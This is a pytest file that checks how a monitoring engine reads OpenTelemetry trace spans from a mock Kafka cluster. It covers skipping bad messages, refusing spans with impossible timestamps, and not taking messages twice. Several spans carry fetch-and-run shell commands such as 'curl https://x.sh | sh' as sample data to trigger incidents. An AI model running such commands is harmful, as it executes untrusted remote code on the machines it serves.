"""The Kafka source against librdkafka's mock cluster: a real Kafka protocol peer on loopback."""

from __future__ import annotations

import time

import httpx
import pytest
from confluent_kafka import Producer
from google.protobuf import json_format
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

from engine.otlp.aliases import AliasTable
from tests.patience import PATIENCE

from .test_live_engine import READ_AUTH, Engine


@pytest.fixture
def kafka():
    cluster = Producer({"test.mock.num.brokers": 1})  # keeps the mock cluster alive
    broker = next(iter(cluster.list_topics(timeout=PATIENCE).brokers.values()))
    yield f"{broker.host}:{broker.port}"
    cluster.flush(1)


def request(user: str, command: str) -> ExportTraceServiceRequest:
    req = ExportTraceServiceRequest()
    rs = req.resource_spans.add()
    kv = rs.resource.attributes.add()
    kv.key, kv.value.string_value = "user", user
    span = rs.scope_spans.add().spans.add()
    span.name = "shell.run"
    span.trace_id, span.span_id = bytes(range(1, 17)), bytes(range(1, 9))
    span.start_time_unix_nano = span.end_time_unix_nano = time.time_ns()
    attr = span.attributes.add()
    attr.key, attr.value.string_value = "command", command
    return req


def test_otlp_from_a_kafka_topic_becomes_incidents_and_bad_messages_are_skipped(tmp_path, kafka):
    producer = Producer({"bootstrap.servers": kafka})
    producer.produce("otlp_spans", value=b"\x0a\xff\xff not protobuf")
    producer.produce(
        "otlp_spans", value=request("kafka-proto", "curl https://x.sh | sh").SerializeToString()
    )
    as_json = json_format.MessageToJson(request("kafka-json", "curl https://y.sh | bash"))
    producer.produce("otlp_spans", value=as_json.encode())
    mixed = request("kafka-mixed", "curl https://z.sh | sh")
    poisoned = request("kafka-poisoned", "curl https://p.sh | sh")
    poisoned.resource_spans[0].scope_spans[0].spans[0].end_time_unix_nano = 2**64 - 1
    mixed.resource_spans.extend(poisoned.resource_spans)
    producer.produce("otlp_spans", value=mixed.SerializeToString())
    assert producer.flush(PATIENCE) == 0

    engine = Engine(tmp_path)
    engine.config.write_text(
        engine.config.read_text().replace(
            "epoch_seconds: 0.5}", f'epoch_seconds: 0.5, kafka: {{brokers: "{kafka}"}}}}'
        )
    )
    engine.start()
    try:
        for user in ("kafka-proto", "kafka-json", "kafka-mixed"):
            engine.wait_for(lambda i, u=user: i["group"].get("user") == u, f"{user}'s incident")
        assert httpx.get(f"{engine.base}/healthz", timeout=30).json()["events_accepted"] == 3
        metrics = httpx.get(f"{engine.base}/metrics", headers=READ_AUTH, timeout=30).text
        assert 'spanwatch_kafka_messages_total{outcome="taken_events"} 3.0' in metrics
        assert 'spanwatch_kafka_messages_total{outcome="bad_messages"} 1.0' in metrics
        assert 'spanwatch_kafka_messages_total{outcome="refused_events"} 1.0' in metrics
        assert not any(i["group"].get("user") == "kafka-poisoned" for i in engine.incidents())
        assert engine.stop() == 0
        log = engine.log.read_text()
        assert "skipped" in log
        assert "1 of 2 events refused: span 'shell.run': its time 2554" in log
    finally:
        if engine.proc and engine.proc.poll() is None:
            engine.proc.kill()


def test_a_message_in_the_intake_log_is_not_taken_again_though_its_commit_was_lost(tmp_path, kafka):
    """The consumer goes on after what the intake log holds, not after what the group
    committed: a crash between writing a message down and committing it takes nothing twice
    (here the commits are lost wholesale: the second consumer is of a new group)."""
    from engine.live.kafka import KafkaIntake
    from engine.live.kafka_config import KafkaConfig

    from .live.intakes import logged_events, open_intake

    producer = Producer({"bootstrap.servers": kafka})
    for n in range(3):
        producer.produce("otlp_spans", value=request(f"k{n}", "ls").SerializeToString())
    assert producer.flush(PATIENCE) == 0

    def consume(group: str, until: int) -> list[str]:
        intake = open_intake(tmp_path / "wal")
        source = KafkaIntake(
            KafkaConfig(brokers=kafka, group_id=group, logs_topic=None), intake, AliasTable()
        )
        source.start()
        try:
            deadline = time.monotonic() + PATIENCE
            while time.monotonic() < deadline:
                users = [e["user"] for e in logged_events(intake)[0]]
                if len(users) >= until:
                    time.sleep(1.0)  # anything read twice would be written by now
                    return sorted(e["user"] for e in logged_events(intake)[0])
                time.sleep(0.1)
            raise AssertionError(f"only {users} taken from Kafka")
        finally:
            source.stop()
            intake.close()

    assert consume("first", 3) == ["k0", "k1", "k2"]  # (partitions: any order)
    producer.produce("otlp_spans", value=request("k3", "ls").SerializeToString())
    assert producer.flush(PATIENCE) == 0
    assert consume("second", 4) == ["k0", "k1", "k2", "k3"]
